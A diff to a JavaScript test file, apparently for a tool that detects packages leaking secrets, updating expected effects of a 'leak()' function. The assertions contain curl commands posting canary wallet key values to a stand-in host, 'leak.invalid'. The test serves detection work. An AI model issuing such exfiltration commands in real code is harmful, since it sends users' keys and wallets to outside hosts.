@@ -240,8 +240,8 @@ describe('libraries and plugins', () => {
     const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
     const execs = of(r.effects, 'exec');
     expect(execs.map((e) => e.command).filter((c) => !c?.startsWith('curl -s -d k='))).toEqual([]); // leak(), called positionally and with an options bag
-    // leak(key): positionally with the seed first, and by its parameter's name with the key
-    expect(execs.filter((e) => e.carries?.includes('wallet')).map((e) => e.command)).toEqual(['curl -s -d k=<canary:arg-seed> https://leak.invalid/', 'curl -s -d k=<canary:arg-key> https://leak.invalid/']);
+    // leak(key): with the key its parameter's name asks for, by position and by name alike (not with a seed phrase)
+    expect(execs.filter((e) => e.carries?.includes('wallet')).map((e) => e.command)).toEqual(['curl -s -d k=<canary:arg-key> https://leak.invalid/']);
     expect(of(r.effects, 'write')).toEqual([]);
   });
 
